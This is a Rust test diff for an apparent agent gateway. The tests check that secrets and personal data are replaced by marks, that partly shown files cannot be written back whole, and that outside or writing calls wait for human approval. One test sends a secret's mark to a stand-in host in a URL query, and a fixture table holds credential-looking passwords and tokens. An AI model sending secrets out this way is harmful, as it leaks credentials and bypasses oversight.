@@ -171,7 +171,8 @@ fn a_mark_goes_nowhere_where_its_text_may_not() -> Tested {
     let shown = agent.call("files__read", &json!({"path": "env"})).join("\n");
     let secret = shown.trim_start_matches("TOKEN=").lines().next().unwrap_or_default().to_owned();
     assert!(secret.starts_with("[redacted:api-key:"), "{shown}");
-    let cut = agent.call("files__read", &json!({"path": "long"})).join("\n");
+    let cut = agent.call("files__read", &json!({"path": "long"}));
+    let (cut, beginning) = (cut.join("\n"), cut.first().cloned().unwrap_or_default());
     for (tool, arguments, why) in [
         ("web__write", json!({"path": "x", "text": secret}), "`web__write` may not have it"),
         ("web__echo", json!({"text": secret}), "`web__echo` may not have it"),
@@ -184,6 +185,10 @@ fn a_mark_goes_nowhere_where_its_text_may_not() -> Tested {
         ("files__write", json!({"path": "x", "text": "[redacted:api-key:00000000]"}), "nobody knows any more"),
         ("files__write", json!({"path": "[personal-data:9]", "text": ""}), "nobody knows any more"),
         ("files__write", json!({"path": "long", "text": cut}), "was not shown to you"),
+        // The same without the words that say so.
+        ("files__write", json!({"path": "long", "text": beginning}), "the rest would be lost; read the rest first"),
+        ("files__write", json!({"path": "long", "text": format!("{}\n", beginning.replacen("pumps", "fans", 3))}), "be lost"),
+        ("files__write", json!({"path": "copy", "text": format!("// long\n{beginning}")}), "is the first 32768 of"),
     ] {
         let told = agent.call(tool, &arguments).join("\n");
         assert!(told.contains(why), "{tool} {arguments}: {told}");
@@ -196,6 +201,105 @@ fn a_mark_goes_nowhere_where_its_text_may_not() -> Tested {
     let told = agent.call("files__write", &json!({"path": "x", "text": secret})).join("\n");
     assert!(told.contains("read the text again"), "{told}");
     agent.leave();
+    Ok(())
+}
+
+/// A file that is read and written back is the same to the byte, also where it speaks of marks.
+#[test]
+fn words_that_look_like_marks_keep_their_meaning() -> Tested {
+    let documents = [
+        "The gateway shows marks such as `[personal-data:1]` in place of an address.\n",
+        "marks `[injection:4]` and `[redacted:api-key:00000000]`, then [secret:1]\n",
+        "const m = { [secret:1]: 2 }; arr[unseen:3]; [personal-data:1] of kim@example.org\n",
+        "[personal-data:2] [personal-data:3], bo@example.org\n",
+    ];
+    // The address is met before the documents, between them, and after them.
+    for first in 0..=documents.len() {
+        let folder = tempfile::tempdir()?;
+        let mut agent = Agent::start(&config(folder.path(), FREE)?);
+        let mut mail = |agent: &mut Agent| -> Tested {
+            std::fs::write(folder.path().join("mail"), "owner: kim@example.org\n")?;
+            let shown = agent.call("files__read", &json!({"path": "mail"})).join("\n");
+            assert!(shown.starts_with("owner: [personal-data:"), "{shown}");
+            assert_eq!(agent.call("files__write", &json!({"path": "mail2", "text": shown})), ["written"]);
+            assert_eq!(std::fs::read_to_string(folder.path().join("mail2"))?, "owner: kim@example.org\n");
+            Ok(())
+        };
+        for (number, document) in documents.iter().enumerate() {
+            if number == first {
+                mail(&mut agent)?;
+            }
+            let file = folder.path().join("doc");
+            std::fs::write(&file, document)?;
+            let shown = agent.call("files__read", &json!({"path": "doc"})).join("\n");
+            assert!(!shown.contains("@example.org"), "{shown}");
+            let told = agent.call("files__write", &json!({"path": "doc", "text": format!("{shown}{number}")}));
+            assert_eq!(told, ["written"], "{first} {document}");
+            assert_eq!(std::fs::read_to_string(&file)?, format!("{document}{number}"), "{first}");
+        }
+        mail(&mut agent)?;
+        agent.leave();
+        let kept = Kept::of_gateway(folder.path());
+        let run = kept.ids().pop().unwrap_or_default();
+        kept.trace("replay", &run).expect(0, "came out the same");
+    }
+    // Nobody has given out a mark: these are words.
+    let folder = tempfile::tempdir()?;
+    let mut agent = Agent::start(&config(folder.path(), FREE)?);
+    for text in ["a mark looks like [secret:1]", "[redacted:api-key:00000000]", "[injection:4][unseen:5]"] {
+        assert_eq!(agent.call("files__write", &json!({"path": "x", "text": text})), ["written"], "{text}");
+        assert_eq!(std::fs::read_to_string(folder.path().join("x"))?, text);
+    }
+    agent.leave();
+    Ok(())
+}
+
+/// Lines with a secret, what of it must be nowhere, and whether it may do something where it is put: then it is judged as
+/// what it is.
+const SECRETS: [(&str, &str, bool); 8] = [
+    ("DB_PASSWORD=tR7#mQ9z!Lp2vX", "mQ9z!Lp", false),
+    ("DB_PASSWORD=tR7_mQ9z.Lp2vX-8", "mQ9z.Lp", false),
+    ("ADMIN_PASSWORD=Xk9$vQ2pLm4Vt", "Xk9$vQ", false),
+    ("DB_PASSWORD=hunter22CorrectHorse9", "hunter22", false),
+    ("U=postgres://svc:Jx8sQ2pLm4Vt@db.internal:5432/prod", "Jx8sQ2", false),
+    ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzZZQ8KEY1", "wJalrXUtn", false),
+    ("GITHUB_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a", "ghp_16C7", false),
+    ("password: \"pa$$ W0rd;x9Q\"", "W0rd;x9Q", true),
+];
+
+#[test]
+fn a_secret_that_goes_somewhere_by_its_mark_is_asked_about_and_not_recorded() -> Tested {
+    const LOCAL: &str = "[tools.files__echo]\nexternal = false\n[tools.files__read]\nexternal = true\n";
+    for (line, part, does) in SECRETS {
+        let folder = tempfile::tempdir()?;
+        let file = folder.path().join("env");
+        std::fs::write(&file, format!("{line}\n"))?;
+        let mut agent = Agent::start(&config(folder.path(), &format!("{FREE}{LOCAL}"))?);
+        let shown = agent.call("files__read", &json!({"path": "env"})).join("\n");
+        assert!(shown.contains("[redacted:") && !shown.contains(part), "{line}: {shown}");
+        let mark = &shown[shown.find('[').unwrap_or(0)..=shown.find(']').unwrap_or(0)];
+        // What only looks, and reaches nothing outside, has it unasked.
+        let found = agent.call("files__echo", &json!({"text": format!("grep {mark}")})).join("\n");
+        assert!(found.contains("[redacted:") && !found.contains(part), "{line}: {found}");
+        // What only looks but reaches outside has not, nor has what writes.
+        let outside = agent.call("files__read", &json!({"path": format!("https://x.example/?q={mark}")})).join("\n");
+        assert!(outside.contains("a person must approve"), "{line}: {outside}");
+        let changed = json!({"path": "env", "text": format!("{shown}DEBUG=1\n")});
+        let told = agent.call("files__write", &changed).join("\n");
+        assert!(told.contains("a person must approve"), "{line}: {told}");
+        assert_eq!(std::fs::read_to_string(&file)?, format!("{line}\n"));
+        let kept = Kept::of_gateway(folder.path());
+        let waiting = &kept.json(&["list"])[0];
+        let run = waiting["run"].as_str().unwrap_or_default();
+        let parked = waiting["parked"].as_array().cloned().unwrap_or_default();
+        let write = parked.iter().find(|parked| parked["tool"] == "files__write").cloned().unwrap_or_default();
+        kept.runs(&["approve", run, write["fingerprint"].as_str().unwrap_or_default()]).expect(0, "next call");
+        assert_eq!(agent.call("files__write", &changed), ["written"], "{line}");
+        assert_eq!(std::fs::read_to_string(&file)?, format!("{line}\nDEBUG=1\n"));
+        assert_eq!(kept.text(run)?.contains(part), does, "{line}: in the trace");
+        agent.leave();
+        kept.trace("replay", run).expect(0, "came out the same");
+    }
     Ok(())
 }
 
@@ -249,5 +353,44 @@ fn a_model_of_the_host_writes_back_what_it_was_told() -> Tested {
     // What was withheld is not weighed: nobody needs a model that may be told confidential texts.
     assert!(!trace.contains("tag-raised"), "{trace}");
     assert_eq!(server.requests().len(), 3);
+    Ok(())
+}
+
+/// A model that is told the beginning of a file, and writes back what it has seen.
+#[test]
+fn a_beginning_of_a_file_is_not_written_over_the_file() -> Tested {
+    for lines in [30_usize, 75, 100, 400] {
+        let source: String =
+            (0..lines).map(|number| format!("line {number:03}: const x{number:03} = compute({number:03}); // n\n")).collect();
+        let whole = source.len() <= 4 << 10;
+        let task = format!(
+            "version = 1\ntitle = \"t\"\n[goal]\ntext = \"Tidy big.ts.\"\n[files]\n\"big.ts\" = {}\n{TOOLS}",
+            toml::Value::from(source.as_str())
+        );
+        let server = ChatServer::start(move |request| {
+            let told = request.told();
+            match request.number {
+                0 => Does::step("read", json!({"tool": "read-file", "arguments": {"path": "big.ts"}}), 0.95),
+                1 => {
+                    assert_eq!(told.contains(" bytes: "), !whole, "{told}");
+                    let from = told.find("line 000").unwrap_or(0);
+                    let to = told[from..].find(['(', '"']).map_or(told.len(), |_| told.len());
+                    let seen = &told[from..to];
+                    let end = seen.find("\\n(These are").or_else(|| seen.find('"')).unwrap_or(seen.len());
+                    let text: String = serde_json::from_str(&format!("\"{}\"", &seen[..end])).unwrap_or_default();
+                    let text = text.replace("// n\nline 002", "// first\nline 002");
+                    Does::step("write", json!({"tool": "write-file", "arguments": {"path": "big.ts", "text": text}}), 0.95)
+                }
+                _ => Does::step("end", json!({"abandon": "cannot"}), 0.95),
+            }
+        })?;
+        let place = Place::new(&server, &task, "")?;
+        let out = place.run();
+        let trace = place.trace()?;
+        let refused = trace.contains("the rest would be lost");
+        assert_eq!(refused, !whole, "{lines}: {}", out.out());
+        let all = format!("of {} bytes of the result of `read-file", source.len());
+        assert_eq!(trace.contains(&all), !whole, "{lines}: {trace}");
+    }
     Ok(())
 }
